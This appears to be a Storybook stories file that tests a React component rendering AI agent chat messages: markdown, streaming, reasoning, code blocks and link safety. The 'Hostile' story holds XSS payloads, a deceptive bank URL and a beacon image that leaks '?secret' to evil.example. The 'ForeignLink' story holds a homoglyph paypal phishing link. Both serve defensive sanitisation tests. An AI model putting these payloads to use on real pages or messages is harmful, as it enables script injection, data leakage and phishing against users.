import type { Meta, StoryObj } from '@storybook/react-vite'
import { MessageContent, type AgentMessage } from 'base44-react'
import { highlighter } from 'base44-react/highlight'
import { expect, screen, waitFor } from 'storybook/test'
import { onPage } from './support/onPage.js'

const date = '2026-01-05T10:42:00'

const message: AgentMessage = {
  id: 'message-1',
  role: 'assistant',
  created_date: date,
  updated_date: date,
  content: `Two of them are **yours**.

1. Ship invoices
2. Renew the certificate, as \`ops\` said[^1]

- [x] looked up
- [ ] answered

> The certificate blocks the release.

## What to run

\`\`\`bash
certbot renew --cert-name shop
\`\`\`

| Task | Due |
|---|--:|
| Ship invoices | 15 Nov |

[^1]: In the channel, on Sunday.`,
}

/** All that one message carries, wherever it is to be shown. */
const meta = {
  component: MessageContent,
  args: { message },
  decorators: [onPage(640)],
} satisfies Meta<typeof MessageContent>

export default meta
type Story = StoryObj<typeof meta>

export const Markdown: Story = {}

export const Dark: Story = { globals: { theme: 'dark' } }

/** More is on its way: what its end leaves open is shown as what it is about to be. */
export const Streaming: Story = {
  args: {
    isStreaming: true,
    message: { ...message, content: 'I can also write to [Dana](https://shop.example) about the **rene' },
  },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText('rene')).toHaveProperty('tagName', 'STRONG')
  },
}

/** Open while the agent thinks. */
export const Thinking: Story = {
  args: {
    isStreaming: true,
    message: {
      ...message,
      content: '',
      reasoning: { start_date: date, content: 'They ask about overdue tasks.' },
    },
  },
}

export const Thought: Story = {
  args: {
    message: {
      ...message,
      content: 'Two are overdue.',
      reasoning: {
        start_date: date,
        end_date: '2026-01-05T10:42:03',
        content: 'They ask about overdue tasks.',
      },
    },
  },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('button', { name: 'Thought for 3 s' }))
    await expect(canvas.getByText('They ask about overdue tasks.')).toBeVisible()
  },
}

/** No HTML, no address that is not what it says, no picture that phones home. */
export const Hostile: Story = {
  args: {
    message: {
      ...message,
      content: `<img src=x onerror=alert(1)> <script>alert(2)</script>

[a bank](https://bank.example@evil.example/) and [another](javascript:alert(3))

![](https://evil.example/beacon.png?secret)`,
    },
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('img, script, a')).toBeNull()
    await expect(canvas.getByRole('button', { name: 'Load the image from evil.example' })).toBeVisible()
  },
}

/** A link to a host that nobody has vouched for shows where it really leads, and asks. */
export const ForeignLink: Story = {
  parameters: { a11y: { context: 'body' } },
  args: {
    linkHosts: ['docs.example.com'],
    message: {
      ...message,
      content: `As [our handbook](https://docs.example.com/billing) says, you can pay on
[paypal.com](https://p\u0430ypal.example/checkout/session?order=A-1042&return=${'%2Forders%2FA-1042'.repeat(12)}).`,
    },
  },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(canvas.getByRole('link', { name: 'paypal.com' }))
    const dialog = await screen.findByRole('dialog', { name: 'Open this link?' })
    await expect(dialog).toHaveTextContent('xn--pypal-4ve.example')
    await expect(screen.getByRole('button', { name: 'Cancel' })).toHaveFocus()
  },
}

export const ForeignLinkDark: Story = { ...ForeignLink, globals: { theme: 'dark' } }

/** Right to left, on a narrow page. */
export const ForeignLinkNarrow: Story = {
  ...ForeignLink,
  globals: { direction: 'rtl' },
  decorators: [onPage(320)],
}

/** Shapes that are made to hang a parser are shown as they are. */
export const PlainText: Story = { args: { message: { ...message, content: `${'> '.repeat(200)}HELLO` } } }

const code = `\`\`\`tsx
// of all that were paid, whoever they were sent to
export function Total({ orders }: { orders: readonly Order[] }) {
  const paid = orders.filter((order) => order.isPaid && order.total > 0)
  return <strong title="in all">{format(paid.reduce((sum, { total }) => sum + total, 0))}</strong>
}
\`\`\`

\`\`\`sql
SELECT name, 'late' AS state FROM orders WHERE due < now() LIMIT 10
\`\`\`

\`\`\`
plain, without a language
\`\`\``

const coloured = { highlighter, message: { ...message, content: code } }

function withoutColours(block: Element) {
  const plain = document.createElement('div')
  plain.innerHTML = block.outerHTML
  for (const token of plain.querySelectorAll('[data-token]')) token.replaceWith(token.textContent)
  return plain.firstElementChild ?? plain
}

function sizesOf(block: Element) {
  return [block, ...block.querySelectorAll('pre, pre > code')].map((element) => {
    const { width, height } = element.getBoundingClientRect()
    return [width, height, element.scrollWidth, element.scrollHeight]
  })
}

/** Colours come when the block is there in full, and move nothing. */
export const Code: Story = {
  args: coloured,
  play: async ({ canvas, canvasElement, userEvent }) => {
    await waitFor(() => expect(canvasElement.querySelector('[data-token="keyword"]')).not.toBeNull())
    for (const block of canvasElement.querySelectorAll('[data-part="code"]')) {
      const plain = withoutColours(block)
      block.after(plain)
      await expect(sizesOf(block)).toEqual(sizesOf(plain))
      plain.remove()
    }
    const [wrap] = canvas.getAllByRole('button', { name: 'Wrap lines' })
    if (wrap) await userEvent.click(wrap)
    const pre = canvasElement.querySelector('pre')
    await expect(pre?.scrollWidth).toBe(pre?.clientWidth)
  },
}

export const CodeDark: Story = {
  globals: { theme: 'dark' },
  args: coloured,
}

export const CodeNarrow: Story = {
  globals: { direction: 'rtl' },
  args: coloured,
  decorators: [onPage(320)],
}

/** What the app has for the code of a language stands in its place. */
export const CodeRendered: Story = {
  args: {
    codeRenderers: {
      chart: ({ code }) => (
        <svg role="img" aria-label={code} viewBox="0 0 100 20" width="100%">
          {code.split(' ').map((value, index) => (
            <rect
              key={index}
              x={index * 12}
              y={20 - Number(value)}
              width="10"
              height={value}
              fill="currentColor"
            />
          ))}
        </svg>
      ),
    },
    message: { ...message, content: 'As it went:\n\n```chart\n4 8 6 12 16 11 19\n```\n\nSo it is.' },
  },
}

/** Object content, as JSON. */
export const ObjectContent: Story = {
  args: {
    message: { ...message, content: { kind: 'order', id: 'A-1042', lines: [{ sku: 'X1', count: 2 }] } },
  },
}

/** What the person wrote is shown as it was written. */
export const FromTheUser: Story = {
  args: {
    message: {
      ...message,
      role: 'user',
      content: 'See **these**,\nplease.',
      file_urls: ['https://files.example/invoice-0423.pdf'],
    },
  },
}
